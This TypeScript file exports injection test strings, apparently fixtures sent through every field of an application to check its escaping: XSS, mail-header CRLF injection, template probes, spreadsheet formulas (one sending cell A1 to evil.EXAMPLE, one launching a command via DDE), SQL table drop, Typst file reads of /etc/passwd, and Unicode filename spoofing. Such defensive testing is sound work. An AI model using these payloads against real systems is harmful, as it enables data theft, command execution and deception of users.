/**
 * Texts that mean something to a program that takes them for more than text. Each is short enough for every field, and is
 * sent in all of them. None looks like a link: names refuse those.
 */
export const injections: readonly { kind: string; text: string }[] = [
  { kind: "HTML", text: `<img src=x onerror=alert(1)> &amp; <!-- " onmouseover="alert(1)" x='` },
  { kind: "a script", text: `</title></script><script>alert('x')</script>` },
  { kind: "mail headers", text: "Ann\r\nBcc: all@evil.EXAMPLE\r\nX-Evil: 1\r\n\r\n<p>Hi" },
  {
    kind: "an encoded word and templates",
    text: "=?utf-8?Q?Ann=0D=0ABcc:_a@b.c?= {{7*7}} ${7*7} <%= 7*7 %> %s %n $1 $& \\1",
  },
  { kind: "a formula", text: `=HYPERLINK("http:evil.EXAMPLE"&A1,"Click")` },
  { kind: "another formula and SQL", text: "@SUM(1+9)*cmd|' /C calc'!A0'); drop table notes; --" },
  { kind: "Typst", text: `#panic("x") #read("/etc/passwd") $sqrt(2)$ *b* _i_ <l> @r // c` },
  { kind: "more Typst", text: ']#eval("1")[ \\ \\u{41} `raw` = Heading https:evil.EXAMPLE' },
  {
    kind: "turned direction and zero width",
    text: "photo\u202Egnp.EXE \u2067back\u2069 Wr\u200Ben Vas\u2060quez \u200D\u200C.",
  },
  { kind: "control characters", text: "a\u0000b\u0008c\u001b[31md\u0085e" },
];
